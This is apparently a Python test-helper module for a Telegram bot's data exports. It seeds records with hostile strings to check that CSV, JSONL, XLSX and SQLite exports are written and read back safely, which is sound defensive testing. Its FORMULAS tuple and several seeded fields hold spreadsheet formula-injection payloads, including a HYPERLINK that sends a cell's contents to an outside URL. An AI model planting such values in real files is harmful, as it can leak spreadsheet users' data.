"""People for exports, with texts that break spreadsheets; how an export is ordered, and read back by other programs."""

import csv
import gzip
import sqlite3
from collections.abc import Sequence
from contextlib import closing
from pathlib import Path
from typing import Any

import duckdb
import openpyxl  # type: ignore[import-untyped]
import orjson
import python_calamine
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape  # type: ignore[import-untyped]

from bot.stats.exports import Order, Written, write
from bot.stats.exports.tables import Table
from bot.stats.period import between
from bot.stats.snapshot import Snapshot
from bot.store import broadcasts, deliveries, operators, questions, trail
from bot.store.database import connect
from dialogs import Event
from tests.bot.store import crowd
from tests.bot.store.crowd import DAY, HELLO, NOON

KEY = bytes(range(32))
FIRST = 5_123_400_000
"""Telegram's number of the first seller."""
OPERATOR = 6_987_654_321
MESSAGE = 771_155_771

FORMULAS = (
    *('=HYPERLINK("http://example.com/?"&A1,"Price list")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1"),
    *("＝1+1", "＋1", "－1", "＠A1", " =1", "\u00a0=1", "\u3000＝1"),
)
NASTY = (
    *FORMULAS,
    *("emoji 😀👩‍👩‍👧🇨🇳", "null\x00byte", "\x00", "\x01\x1f\x0b", "שלום אבג", "\u202eright to left\u202c", "مرحبا 123"),
    *('a,b;"c"', "two\r\nlines\nthree\rfour", "'quoted", "  edges  ", "_x0041_", "<r>marked</r>", "<r><t>x</t></r>"),
    *("\ufffe\uffff", "\ufeffmark", "null", "NaN", "true", "0012", "1e5", "2026-11-26", "😀" * 16_400, "x" * 32_800),
)
texts = st.text(min_size=1, max_size=30) | st.sampled_from(NASTY)


def ordered(what: str, form: str, since: str | None = None, until: str | None = None, *, raw: bool = False) -> Order:
    """An order of somebody at noon."""
    return Order(what, form, between(since, until, NOON), KEY, NOON, raw)


def exported(snapshot: Snapshot, what: str, file: Path, *, raw: bool = False, **days: str) -> Written:
    """The export in that file, in the format of its ending."""
    form = {"csv": "csv", "gz": "jsonl", "xlsx": "xlsx", "db": "sqlite"}[file.name.rpartition(".")[2]]
    return write(snapshot, ordered(what, form, raw=raw, **days), file)


def settle_everybody(path: Path) -> None:
    """One seller for each text, who writes it wherever he can; two who run the bot; one who was forgotten."""
    with closing(connect(path, "real", "OFF")) as db, crowd.transaction(db):
        for number, text in enumerate(NASTY):
            who = crowd.settle(
                db,
                FIRST + number,
                lang=("en", "zh_Hans", "ru")[number % 3],
                page="iso9001.what",
                finished=("iso9001", "iso14001")[: number % 3],
                saw=(("iso9001.what", "v1"), ("iso9001.cost", "v2")),
                campaign=text,
                answers={"auditors.goal": text},
                last=NOON - (number % 40) * DAY,
            )
            ask(db, FIRST + number, text)
            trail.append(db, who, "en", [Event("finished", "iso9001.what", "v1")], NOON - 60)
        questions.end(db, 2, "answered", OPERATOR, NOON, "=1+1")
        questions.end(db, 3, "closed", 0, NOON)
        operators.remember(db, [OPERATOR], NOON)
        crowd.settle(db, OPERATOR, saw=(("iso9001.what", "v1"),))
        send(db)


def ask(db: sqlite3.Connection, seller: int | None, text: str, at: float = NOON) -> None:
    """A question exactly as it is given; the store itself would drop what is hardest to write down."""
    db.execute(
        "insert into questions (seller, text, lang, page, at, state) values (?, ?, 'en', 'home.menu', ?, 'open')",
        [seller, text, int(at)],
    )


def send(db: sqlite3.Connection) -> None:
    """A broadcast that has ended, with all kinds of outcomes; another one nobody has started."""
    id_ = crowd.run(db, HELLO, fallback="en", now=NOON - DAY)
    crowd.deliver(db, NOON, first_message=MESSAGE)
    for number, state in enumerate(deliveries.STATES):
        db.execute(
            "update deliveries set state = ?, reason = ? "
            "where who = (select who from deliveries where broadcast = ? order by who limit 1 offset ?)",
            [state, "=1+1", id_, number],
        )
    db.execute("update broadcasts set by = ? where id = ?", [OPERATOR, id_])
    broadcasts.aim(db, broadcasts.draft(db, OPERATOR, NOON), "campaign==HYPERLINK(0)")


# Reading back


Rows = list[list[Any]]


def csv_rows(file: Path) -> tuple[Rows, Rows]:
    """Head and rows as two readers see them: Python's, and DuckDB's, whose nothing is an empty text, too."""
    with file.open(encoding="utf-8-sig", newline="") as opened:
        rows: Rows = list(csv.reader(opened, strict=True))
    with duckdb.connect() as db:
        found = db.read_csv(str(file), header=True, all_varchar=True, delimiter=",", quotechar='"', escapechar='"')
        others = [[value or "" for value in row] for row in found.fetchall()]
        return rows, [found.columns, *others]


def jsonl_rows(file: Path) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """Rows as two readers see them; DuckDB is told to guess no types."""
    with gzip.open(file, "rb") as opened:
        rows = [orjson.loads(line) for line in opened]
    with duckdb.connect() as db:
        found = db.sql(
            f"select * from read_json('{file}', format = 'newline_delimited', auto_detect = true, "
            "dateformat = 'none', timestampformat = 'none', sample_size = -1, map_inference_threshold = -1, "
            "convert_strings_to_integers = false)"
        )
        return rows, [dict(zip(found.columns, row, strict=True)) for row in found.fetchall()]


def xlsx_rows(file: Path, sheet: str) -> tuple[Rows, Rows]:
    """Head and rows of a sheet as two readers see them; nothing is None."""
    book = openpyxl.load_workbook(file, read_only=True)
    found = book[sheet].iter_rows(values_only=True)
    rows = [[unescape(value) if isinstance(value, str) else value for value in row] for row in found]
    book.close()
    others = python_calamine.CalamineWorkbook.from_path(str(file)).get_sheet_by_name(sheet).to_python()
    return rows, [[None if value == "" else value for value in row] for row in others]


def sqlite_rows(file: Path, table: str) -> Rows:
    """Rows of a table or view."""
    with closing(sqlite3.connect(f"{file.as_uri()}?mode=ro", uri=True)) as db:
        return [list(row) for row in db.execute(f"select * from {table}")]


def names(table: Table) -> list[str]:
    """Of its columns."""
    return [column.name for column in table.columns]


def column(table: Table, name: str, rows: Sequence[Sequence[Any]]) -> list[Any]:
    """One column of rows without a head."""
    at = names(table).index(name)
    return [row[at] for row in rows]
